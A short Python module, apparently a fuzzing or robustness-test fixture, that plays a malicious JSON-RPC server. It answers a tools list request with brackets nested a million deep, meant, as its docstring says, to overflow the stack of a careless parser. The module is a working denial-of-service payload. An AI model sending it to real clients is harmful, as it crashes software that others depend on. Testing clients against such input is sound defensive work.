"""Answers with brackets nested a million deep, which overflow the stack of a careless reader."""

import os

AT = "list"


def attack():
    os.write(1, b'{"jsonrpc":"2.0","id":2,"result":{"tools":' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}}\n")
    return {}
